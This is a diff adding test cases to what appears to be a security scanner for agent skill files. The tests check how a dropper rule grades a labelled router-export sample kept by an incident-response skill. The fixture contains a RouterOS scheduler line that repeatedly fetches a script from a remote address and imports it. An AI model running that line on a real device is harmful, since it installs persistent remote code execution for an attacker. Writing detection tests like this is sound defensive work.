@@ -538,6 +538,27 @@ describe('quoted exhibits (labelled bad examples kept as files)', () => {
   });
 });
 
+describe('labelled samples in a security analyst skill', () => {
+  const ir = `---\nname: router-incident-response\ndescription: Incident response for a compromised router: audit its export offline\n---\n# IR\n\nCompare the export with the sample in references/.\n`;
+  const plain = `---\nname: router-sync\ndescription: Keep a router's blocklist in sync\n---\n# Sync\n`;
+  const rsc = (label: string) =>
+    `${label}\n/system scheduler\nadd interval=10m name=u on-event="/tool fetch url=\\"http://198.51.100.50/u\\" dst-path=u.rsc; :delay 5s; /import u.rsc"\n`;
+  const label = '# SAMPLE - excerpt of an export from a compromised router. DO NOT /import THIS FILE.';
+  const worst = (skill: string, text: string) =>
+    findingsOf(skill, 'SKILL.md', undefined, { 'references/seen-export.rsc': text })
+      .filter((f) => f.rule_id === 'SG-DROPPER-018')
+      .map((f) => f.severity);
+
+  it('should cap a labelled device export kept by an incident-response skill at MEDIUM', () => {
+    expect(worst(ir, rsc(label))).toEqual(['MEDIUM']);
+  });
+
+  it('should keep it HIGH unlabelled or outside a security analyst skill', () => {
+    expect(worst(ir, rsc('# export'))).toEqual(['HIGH']);
+    expect(worst(plain, rsc(label))).toEqual(['HIGH']);
+  });
+});
+
 describe('labelled examples in a reviewer reference file', () => {
   const skill =
     '---\nname: plugin-vetting\ndescription: Review third-party editor plugins before the team installs them.\n---\n# Vetting\n\nJudge with `references/cases.md`.\n';
